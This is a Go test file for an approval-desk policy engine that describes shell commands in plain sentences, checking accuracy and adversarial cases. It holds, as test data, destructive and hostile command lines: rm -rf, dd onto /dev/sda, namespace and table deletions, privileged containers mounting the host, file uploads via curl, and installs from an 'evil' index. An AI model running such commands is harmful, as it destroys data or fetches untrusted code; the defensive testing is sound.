package policy

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/internal/approval"
	"approvalbot/internal/policy/finding"
	"approvalbot/internal/policy/program"
)

// says gives the sentences about a call, with what they name in brackets.
func says(points []approval.Point) (all []string) {
	for _, p := range points {
		if p.Does == "" {
			continue
		}
		of := make([]any, len(p.Of))
		for i, w := range p.Of {
			of[i] = "[" + w + "]"
		}
		all = append(all, fmt.Sprintf(p.Does, of...))
	}
	return all
}

// Every sentence of the table is said of some command, in place of the words of something that was found of it.
func TestEverySentenceOfTheTableIsSaid(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	numbers := strings.NewReplacer("%1", "%s", "%2", "%s", "%3", "%s")
	reached, forms := map[string]bool{}, map[string]bool{}
	for _, s := range program.SaidSamples() {
		forms[s.Usage+": "+s.Sentence] = true
		for _, p := range pointsOf(t, e, callOf(t, "exec", map[string]any{"argv": s.Words})) {
			if p.Does != "" && strings.Contains(p.Does, numbers.Replace(s.Sentence)) {
				reached[s.Row+s.Usage+s.Sentence] = true
			}
		}
	}
	missed := 0
	for _, s := range program.SaidSamples() {
		if !reached[s.Row+s.Usage+s.Sentence] {
			missed++
			t.Errorf("%q is said of none of its programs, as of %q", s.Sentence, s.Words)
			reached[s.Row+s.Usage+s.Sentence] = true
		}
	}
	t.Logf("%d usages with sentences", len(forms))
	require.GreaterOrEqual(t, len(forms), 200)
	require.Zero(t, missed)
}

// A sentence about files says in which directory they are, if the line changes that, and no more of it than is sure.
func TestSentencesSayTheDirectory(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for line, want := range map[string]string{
		"cd x && rm -rf y":                           "y, in directory [x]",
		"cd a && cd b && rm -rf y":                   "y, in directory [a] and there [b]",
		"cd a && cd /b && rm -rf y":                  "y, in directory [/b]",
		"cd x && pwd && { rm -rf y; }":               "y, in directory [x]",
		"cd x; rm -rf y":                             "y, in directory [x] if cd succeeds",
		"cd x\nrm -rf y":                             "y, in directory [x] if cd succeeds",
		"cd $D && rm -rf y":                          "y, in a directory that cd sets",
		"cd && rm -rf y":                             "y, in a directory that cd sets",
		"! cd x && rm -rf y":                         "y, in a directory that cd sets",
		"if a; then cd x; fi; rm -rf y":              "y, in a directory that cd sets",
		"while read l; do cd x; done; rm -rf y":      "y, in a directory that cd sets",
		"sh -c 'cd x'; rm -rf y":                     "y, in a directory that cd sets",
		"pushd x; rm -rf y":                          "y, in a directory that cd sets",
		"cd x || rm -rf y":                           "y",
		"cd x | rm -rf y":                            "y",
		"cd x & rm -rf y":                            "y",
		"(cd x); rm -rf y":                           "y",
		"echo $(cd x) && rm -rf y":                   "y",
		"cd x && rm -rf /y":                          "/y",
		"cd x && (cd z && pwd) && rm -rf y":          "y, in directory [x]",
		"cd x && bash -c 'cd z && rm -rf y' && true": "y, in directory [x] and there [z]",
	} {
		y, in, there := strings.Cut(want, ",")
		sentence := "deletes [" + y + "] and everything in it, by force"
		if there {
			sentence += "," + in
		}
		require.Contains(t, says(pointsOf(t, e, lineCall(t, line))), sentence, line)
	}
	require.Contains(t, says(pointsOf(t, e, lineCall(t, "cd /etc && echo a > hosts"))), "changes [hosts], a file of the operating system, in directory [/etc]")
	require.Contains(t, says(pointsOf(t, e, lineCall(t, "cd x && git clean -fd"))), "deletes for good the files that git does not know and whole directories, in directory [x]")
	require.Contains(t, says(pointsOf(t, e, lineCall(t, "cd x && kubectl delete ns prod"))), "deletes namespace [prod] and everything in it", "which is in no directory")
}

// Of a command whose options a sentence reads none is called unknown, as long as every such command has a sentence.
func TestASentenceThatReadsAnOptionStandsForIt(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	unknown := func(line string) (all []string) {
		for _, p := range pointsOf(t, e, lineCall(t, line)) {
			if p.Code == "unknown-option" {
				all = append(all, says([]approval.Point{p})...)
			}
		}
		return all
	}
	reads := `psql -h db.prod -c "DELETE FROM orders"`
	require.Equal(t, []string{"deletes every row of table [orders] on machine [db.prod]"}, unknown(reads))
	require.Equal(t, []string{"gives [sort] the option [--frob], which the desk does not know to be harmless"}, unknown(reads+"; sort --frob a"))
}

// strength is how strong a verb is.
type strength int

const (
	reads    strength = iota // nothing changes
	changes                  // something does, or runs
	stops                    // what runs ends, perhaps to begin again
	destroys                 // something is there no more
)

// verbs are those by which sentences of the table begin, by their strength; in the middle of one they count as well.
var verbs = map[strength]string{
	reads: "reads shows lists prints says tells checks finds describes counts compares",
	changes: "adds applies approves archives becomes blocks builds changes closes comments connects copies deploys disables edits enables " +
		"exchanges fetches forwards gives has installs lets links loads makes marks merges mounts moves names opens pauses publishes " +
		"pushes puts renames resumes runs saves scales sends sets signs starts syncs switches taints takes trusts unmounts " +
		"updates upgrades uploads writes in",
	stops:    "stops restarts ends shuts",
	destroys: "deletes destroys removes drops erases empties overwrites replaces throws forgets formats partitions breaks withdraws uninstalls cuts kills deleted lose",
}

// needed is how strong a sentence must be that is said in place of a code's own; of any other code that asks: changes.
var needed = map[string]strength{
	"recursive-delete": destroys, "force-delete": destroys, "deletes-file": destroys, "git-destroys": destroys, "git-discards": destroys,
	"git-force-push": destroys, "drops-data": destroys, "destroys-containers": destroys, "removes-schedule": destroys, "wipes-disk": destroys,
	"writes-device": destroys, "destroys-infrastructure": stops, "drops-firewall": stops, "stops-machine": stops, "kills-everything": stops,
	"stops-process": stops,
}

// strengthOf is that of the strongest verb of a sentence. known: it begins with a verb.
func strengthOf(sentence string) (most strength, known bool) {
	sentence = strings.ReplaceAll(sentence, "by force", "destroys") // what is in the way goes
	sentence = strings.ReplaceAll(sentence, " off", " stops")
	for i, word := range strings.Fields(strings.ReplaceAll(sentence, ",", "")) {
		for s, list := range verbs {
			if slices.Contains(strings.Fields(list), word) {
				most, known = max(most, s), known || i == 0
			}
		}
	}
	return most, known
}

// No sentence of the table sounds weaker than what was found of the command that it is about, with whatever options it
// is said: a command that deletes is never said to change something, nor one that changes something to show it.
func TestSentencesAreAsStrongAsWhatIsFound(t *testing.T) {
	t.Parallel()
	e, said := engine(t, shipped), map[string]bool{}
	numbers := strings.NewReplacer("%1", "%s", "%2", "%s", "%3", "%s")
	for _, s := range program.SaidSamples() {
		for _, option := range append([][]string{nil}, s.Options...) {
			words := slices.Concat(s.Words[:1], option, s.Words[1:])
			for _, p := range pointsOf(t, e, callOf(t, "exec", map[string]any{"argv": words})) {
				key := p.Code + " " + p.Does
				if said[key] || !strings.HasPrefix(p.Does, numbers.Replace(s.Sentence)) || p.Does == "" {
					continue
				}
				said[key] = true
				least, listed := needed[p.Code]
				if code, ok := finding.Named(p.Code); ok && !listed && finding.Reasons[code].Class > approval.R0 {
					least = changes
				}
				if got, known := strengthOf(p.Does); !known || got < least {
					t.Errorf("%q is too weak for %s of %q, or begins with no verb that is listed here", p.Does, p.Code, words)
				}
			}
		}
	}
	require.Greater(t, len(said), 2000)
}

// A sentence says what is touched, or nothing: it never names another thing than the command would touch.
func TestAdversary_L2_SentencesNameWhatIsTouched(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for _, c := range []struct{ line, want string }{
		{"kubectl delete namespace staging --context prod", "deletes namespace [staging] and everything in it in context [prod]"},
		{"kubectl --context prod delete ns staging", "deletes namespace [staging] and everything in it in context [prod]"},
		{"kubectl delete namespace/staging", ""},
		{"kubectl delete ns a b", "deletes namespace [a] and [b] and everything in it"},
		{"kubectl delete ns --context a --context b x", ""}, // which of two counts, kubectl knows
		{"kubectl delete ns x --context=a --context=a", ""},
		{"kubectl delete ns --context $CTX x", ""},
		{"kubectl delete ns $NS", ""},
		{"kubectl delete ns x$NS", ""},
		{"kubectl delete ns x --kubeconfig other", ""}, // an option that no usage lists
		{"kubectl delete ns 'a b'", "deletes namespace [a b] and everything in it"},
		{"kubectl delete ns -- --all", "deletes namespace [--all] and everything in it"},
		{"kubectl delete ns --all", "deletes every one of [ns]"},
		{"kubectl delete nаmespace staging", "deletes [nаmespace] [staging]"}, // a Cyrillic letter: no namespace
		{"kubectl delete ns a b c d e f", "deletes namespace [a], [b], [c], [d], [e] and [f] and everything in it"},
		{"kubectl delete ns a b c d e f g", ""}, // one could be overlooked
		{"kubectl delete ns x --dry-run=client", ""},
		{"kubectl delete ns ''", ""},
		{"kubectl delete ns x*", ""}, // the shell makes names of it
		{"'kubectl' \"delete\" n's' x", "deletes namespace [x] and everything in it"},
		{"sudo -u root kubectl delete ns x", "deletes namespace [x] and everything in it"},
		{"./kubectl delete ns x", "!namespace"}, // it may be anything
		{"/usr/bin/kubectl delete ns x", "deletes namespace [x] and everything in it"},
		{"Kubectl delete ns x", "!namespace"},
		{"k=1; kubectl delete ns $k", ""},
		{"for n in a b; do kubectl delete ns $n; done", "deletes namespace [a] and everything in it"},
		{"for n in a b; do kubectl delete ns $n; done", "deletes namespace [b] and everything in it"},
		{"git push origin main", "pushes [main] to [origin]"},
		{"git push origin main dev", "pushes [main] and [dev] to [origin]"},
		{"git push", ""},
		{"git push origin", ""},
		{"git push -f origin main", "overwrites [main] of [origin] by force"},
		{"git push origin main -f", "overwrites [main] of [origin] by force"},
		{"git push origin -d main", "deletes [main] of [origin]"},
		{"git push --repo=evil origin main", ""},
		{"git -C /other push origin main", "!pushes"},
		{"git push origin +main", "!overwrites"},
		{"rm -rf -- -rf", "deletes [-rf] and everything in it, by force"},
		{"rm -rf *", "deletes [*] and everything in it, by force"},
		{"rm -rf *.o -x", "!deletes"},
		{"docker run --privileged -v /:/h alpine", "starts a container of image [alpine] that can reach the whole machine with every right, with [/:/h] of this machine"},
		{"rm -rf a 'b c' ./*.o", "deletes [a], [b c] and [./*.o] and everything in it, by force"},
		{"rm -rf $X/a", "!deletes"},
		{"rm -rf \"$HOME\"/x", "!deletes"},
		{"rm -r --no-preserve-root /", "!deletes"},
		{"rm -rf {a,b}", "deletes [a] and [b] and everything in it, by force"},
		{"ssh prod rm -rf /srv", "runs [rm -rf /srv] on [prod]"},
		{"ssh prod 'rm -rf /srv; ls'", "runs ['rm -rf /srv; ls'] on [prod]"},
		{"ssh -o HostName=other prod ls", "runs [ls] on [prod] with [HostName=other]"},
		{"ssh -o A=b -o HostName=other prod ls", ""},
		{"ssh -F other prod ls", ""},
		{"ssh -p 22 prod", "opens a shell on [prod] at port [22]"},
		{`psql -c "DELETE FROM orders"`, "deletes every row of table [orders]"},
		{`psql -d shop -c "DELETE FROM orders WHERE id=1"`, "deletes rows from table [orders] in database [shop]"},
		{`psql -c "delete from orders; drop table users"`, ""},
		{`psql -c "delete from orders" -c "drop table users"`, ""},
		{`psql -c "delete from a -- b
where id=1"`, ""},
		{`psql -c "delete from a/**/.b"`, ""},
		{`psql -c 'drop table "a;b"'`, ""},
		{`psql -c "drop table a, b"`, ""},
		{`psql -c "truncate a, b"`, ""},
		{`psql -c "drop table if exists shop.orders cascade"`, "drops table [shop.orders] and what depends on it"},
		{`psql -c "update a, b set x=1"`, ""},
		{`psql -c "with x as (delete from a) select 1"`, ""},
		{`psql -c "delete from $T"`, ""},
		{`mysql shop -e "truncate table orders"`, "deletes every row of table [orders] in database [shop]"},
		{`sqlite3 a.db "drop table t"`, "drops table [t] in database [a.db]"},
		{"terraform apply plan.out", "changes or deletes what [plan.out] says"},
		{"terraform destroy -target=a -target=b", ""},
		{"aws ec2 terminate-instances --instance-ids i-1", "ends and deletes a machine, instance [i-1]"},
		{"aws ec2 terminate-instances --instance-ids i-1 i-2", ""},
		{"aws ec2 terminate-instances --cli-input-json file://x", ""},
		{"aws s3 rm s3://b/x --recursive", "deletes [s3://b/x] and everything below it"},
		{"docker rm -f a", "removes container [a] by force"},
		{"docker rm -fv a", "removes container [a] by force, and their volumes"},
		{"docker -H tcp://other rm a", "!removes"},
		{"docker run -v /:/host alpine sh", "runs [sh] in a container of image [alpine] with [/:/host] of this machine"},
		{"docker run --privileged --frob alpine sh", "!container of"},
		{"dd if=/dev/zero of=/dev/sda bs=1M", "overwrites [/dev/sda] with [/dev/zero]"},
		{"dd if=a of=b of=/dev/sda", "!overwrites"},
		{"chmod -R 777 /srv", "sets the permissions of [/srv] to [777] and everything in it"},
		{"curl -X POST https://x.org -d @f", "sends data to [https://x.org] with method [POST]"},
		{"curl -d a https://x.org --next https://y.org", "!sends data to [https://x.org]"},
		{"npm publish", "publishes the package of this folder for everyone"},
		{"npm install evil@1.0", "installs [evil@1.0]"},
		{"npm run deploy -- --prod", "runs the project's script [deploy] with [--prod]"},
		{"pip install --index-url http://evil requests", "installs [requests] from [http://evil]"},
		{"kill -9 1234", "stops process [1234]"},
		{"find . -name x | xargs rm", "!deletes"},
		{"ls | xargs docker rm a", "!removes container"}, // and more that it reads
		{"ls | xargs -I{} docker rm {}", "!removes container"},
		{"find . -exec docker rm {} +", "!removes container"},
		{"find . -exec kubectl delete ns {} \\;", "!deletes"},
		{"parallel kubectl delete ns ::: a b", "!deletes"},
		{"cd packages/a && npm publish", "!this folder"},
		{"terraform -chdir=prod destroy", "destroys all infrastructure, of folder [prod]"},
		{"kubectl delete ns x -n=prod", ""},
		{"kubectl delete ns x -nprod", "deletes namespace [x] and everything in it in namespace [prod]"},
		{"kubectl delete ns x --force=false", ""},
		{"kubectl delete -f -", ""},
		{"gh pr merge 12 -s -d", "merges pull request [12] and deletes its branch"},
		{"kill -9 1 -1", "!stops"}, // all processes
		{"kill 5 -9", "!stops"},    // a group of processes
		{"ssh prod -p 22 ls", ""},
		{"apt install nginx-", "!installs"}, // which removes it
		{"apt install g++", "installs [g++]"},
		{"crontab -", "!jobs by those"},
		{"gh pr merge 12 --admin", "merges pull request [12] past the rules of the branch"},
		{`psql -c "delete from a using (select 1 from b where x) c"`, "deletes every row of table [a]"},
		{"docker exec -it web rm -rf /data", "runs [rm -rf /data] in container [web]"},
		{"docker run alpine -v /x", "!runs"},
	} {
		got := says(pointsOf(t, e, lineCall(t, c.line)))
		own := slices.DeleteFunc(slices.Clone(got), func(s string) bool { return strings.HasPrefix(s, "changes [") })
		not, is := strings.CutPrefix(c.want, "!")
		switch {
		case is && strings.Contains(strings.Join(got, "\n"), not),
			c.want == "" && len(own) > 0,
			c.want != "" && !is && !slices.Contains(got, c.want):
			t.Errorf("%s\n says %q\n want %q", c.line, got, c.want)
		}
	}
}

// A sentence about one command does not take the place of what is said of another.
func TestAdversary_L2_ASentenceHidesNoOtherCommand(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for _, c := range []struct {
		line string
		want []string
	}{
		{`rm -rf /srv/a; rm -rf "$DIR"`, []string{"deletes whole directories", "deletes [/srv/a] and everything in it, by force"}},
		{"git push origin main; git push", []string{"sends commits to another repository", "pushes [main] to [origin]"}},
		{"kubectl delete ns a; kubectl delete ns $B", []string{"changes or deletes running infrastructure", "deletes namespace [a] and everything in it"}},
		{"frob a; nob b", []string{"runs [frob], which is not on the desk's list of harmless programs",
			"runs [nob], which is not on the desk's list of harmless programs"}},
	} {
		got := says(pointsOf(t, e, lineCall(t, c.line)))
		require.Equal(t, c.want, got[:min(2, len(got))], c.line)
	}
}

// No sentence says less than its command: each thing that it names is of the call, and it has a place for each.
func TestSentencesNameWordsOfTheCall(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	asked, named := 0, 0
	for _, x := range append(corpus(t), judged(t)...) {
		c := x.call(t)
		points := pointsOf(t, e, c)
		if x.outcome != "ask" {
			require.Empty(t, points)
			continue
		}
		asked++
		if len(points) > 0 && len(points[0].Of) > 0 {
			named++
		}
		var params any
		require.NoError(t, json.Unmarshal(c.Params, &params))
		text := bare.Replace(fmt.Sprint(params) + c.ToolName)
		for _, p := range points {
			require.Equal(t, len(p.Of), strings.Count(p.Does, "%s"), "%s: %+v", x.text, p)
			require.Equal(t, len(p.Of), strings.Count(p.Does, "%"), "%s: %+v", x.text, p)
			for _, w := range p.Of {
				if !strings.Contains(text, bare.Replace(w)) {
					t.Errorf("%s: %q is no word of it: %+v", x.text, w, p)
				}
			}
		}
	}
	t.Logf("of %d calls that ask, the worst reason of %d names what it is about", asked, named)
	require.Greater(t, 2*named, asked)
}
